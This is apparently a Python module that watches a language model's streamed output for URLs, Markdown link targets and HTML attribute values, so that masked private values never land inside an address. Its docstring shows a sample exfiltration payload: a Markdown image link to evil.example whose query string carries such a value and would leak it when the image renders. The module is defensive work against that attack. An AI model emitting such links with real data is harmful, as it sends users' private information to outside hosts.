"""Where an address stands in a text that streams: no value may enter it.

An engine could write ``![x](https://evil.example/?q=⟦이름1·k3f9⟧)``: with the value in place, a
screen that shows the picture would carry it out. Where it is unsure whether an address is over,
it is not. Keeps a few signs only, and gives the same for every split of the text.
"""

import re
from enum import Enum, auto

_WINDOW = 40
_LAST = re.compile(r"[:/\\.(?#]")
"""The signs with which the beginning of an address may be complete."""
_SCHEME = re.compile(r"(?<![a-z0-9])(?:https?|wss?|ftp|data|javascript|blob):\Z")
_HOST = re.compile(
    r"(?:\w\.(?:[a-z]{2,18}|한국)|(?<![0-9])(?:[0-9]{1,3}\.){3}[0-9]{1,3})(?::[0-9]{1,5})?[/?#]\Z"
)
_WWW = re.compile(r"(?<![a-z0-9])www\.\Z")
_BEFORE = re.compile(r"([\"'`<]?)[^\s\"'`<>]*\Z")
"""The quote or bracket directly before the word that became an address."""
_SPACE = " \t\n\r\f\v"
_TAG = re.compile(r"<[A-Za-z]")
_OF_TAG = re.compile(r"[=>]")


class _At(Enum):
    OUT = auto()
    BARE = auto()
    ANGLE = auto()
    TARGET = auto()


class Links:
    """Sees the text that goes out, in pieces; ``inside`` says whether an address is open now.

    An address ends with a white space, ``<`` or the quote before it; between ``<`` and ``>`` with
    ``>`` or the line; a link's target with its bracket. A value of an HTML tag counts as one.
    """

    __slots__ = ("_addresses", "_tags")

    def __init__(self) -> None:
        self._addresses, self._tags = _Addresses(), _Tags()

    @property
    def inside(self) -> bool:
        """Whether what comes next would stand in an address."""
        return self._addresses.at is not _At.OUT or self._tags.inside

    def see(self, text: str) -> None:
        """See a piece of the text as it goes out."""
        self._addresses.see(text)
        self._tags.see(text)

    def end(self) -> None:
        """See the end of a text; what comes next is another one."""
        self._addresses, self._tags = _Addresses(), _Tags()


class _Addresses:
    """Addresses by their look. ``at`` says in which kind of one the text stands."""

    __slots__ = ("_begun", "_depth", "_escaped", "_lines", "_quote", "_tail", "at")

    def __init__(self) -> None:
        self.at, self._tail, self._quote = _At.OUT, "", ""
        self._begun = self._escaped = False
        self._depth = self._lines = 0

    def see(self, text: str) -> None:
        at = 0
        while at < len(text):
            at = self._out(text, at) if self.at is _At.OUT else self._in(text, at)

    def _out(self, text: str, at: int) -> int:
        """Return up to where an address begins."""
        joined, begin = self._tail + text[at:], at - len(self._tail)
        for last in _LAST.finditer(joined, len(self._tail)):
            window = joined[max(0, last.end() - _WINDOW) : last.end()].lower()
            if _begins(window):
                before = _BEFORE.search(window)
                self._enter(last.group(), before[1] if before else "")
                return begin + last.end()
        self._tail = joined[-_WINDOW:]
        return len(text)

    def _enter(self, sign: str, before: str) -> None:
        self.at = _At.TARGET if sign == "(" else _At.ANGLE if before == "<" else _At.BARE
        self._quote, self._tail = before, ""
        self._begun = self._escaped = False
        self._depth = self._lines = 0

    def _in(self, text: str, at: int) -> int:
        """Return up to where the address is over."""
        step = {_At.BARE: self._bare, _At.ANGLE: self._angle, _At.TARGET: self._target}
        while at < len(text) and self.at is not _At.OUT:
            step[self.at](text[at])
            at += 1
        if self.at is _At.OUT:
            self._tail = text[at - 1]
        return at

    def _bare(self, sign: str) -> None:
        if sign in _SPACE or sign == "<" or sign == self._quote:
            self.at = _At.OUT

    def _angle(self, sign: str) -> None:
        if sign in "\n\r" or (sign == ">" and not self._escaped):
            self.at = _At.OUT
        self._escaped = sign == "\\" and not self._escaped

    def _target(self, sign: str) -> None:
        if sign in "\n\r":
            self._lines += 1
            self.at = _At.OUT if self._begun or self._lines > 2 else self.at
        elif sign == "<" and not self._begun:
            self.at = _At.ANGLE
        elif not self._escaped and sign == ")" and not self._depth:
            self.at, self._quote = _At.BARE, ""  # some readers go on to the next space
        elif not self._escaped and sign in "()":
            self._depth += 1 if sign == "(" else -1
        self._begun = self._begun or sign not in _SPACE
        self._escaped = sign == "\\" and not self._escaped


def _begins(window: str) -> bool:
    """Whether a text that ends so, in small letters, has just begun an address.

    ``scheme:``, ``//host``, ``www.``, ``host.kr/``, and the target of a Markdown link: ``](``.
    """
    match window[-1]:
        case "(":
            return window.endswith("](")
        case ".":
            return _WWW.search(window, len(window) - 5 if len(window) > 5 else 0) is not None
        case ":":
            return _SCHEME.search(window) is not None
        case "/" | "\\":
            return window[-2:-1] in ("/", "\\") or _HOST.search(window) is not None
        case _:
            return _HOST.search(window) is not None


class _Tags:
    """Values of attributes of HTML tags: ``<img src="…">`` may spell its address in any way."""

    __slots__ = ("_half", "_open", "_quote", "inside")

    def __init__(self) -> None:
        self._half = self._open = self.inside = False
        self._quote = ""

    def see(self, text: str) -> None:
        at = 0
        while at < len(text):
            if not self._open:
                at = self._before(text, at)
            elif not self.inside:
                at = self._between(text, at)
            else:
                at = self._value(text, at)

    def _before(self, text: str, at: int) -> int:
        if self._half and text[at].isascii() and text[at].isalpha():
            self._open, self._half = True, False
            return at + 1
        found = _TAG.search(text, at)
        self._open, self._half = found is not None, found is None and text[-1] == "<"
        return found.end() if found else len(text)

    def _between(self, text: str, at: int) -> int:
        found = _OF_TAG.search(text, at)
        if found is None:
            return len(text)
        self.inside, self._open, self._quote = found[0] == "=", found[0] == "=", "="
        return found.end()

    def _value(self, text: str, at: int) -> int:
        """Take one sign of a value, or all of a quoted one. ``=`` stands for: not begun."""
        sign = text[at]
        if self._quote in ('"', "'"):
            end = text.find(self._quote, at) + 1
            self.inside = not end
            return end or len(text)
        if sign == ">":
            self._open = self.inside = False
        elif self._quote == "=":
            self._quote = sign if sign in "\"'" else "=" if sign in _SPACE else ""
        elif sign in _SPACE:
            self.inside = False
        return at + 1
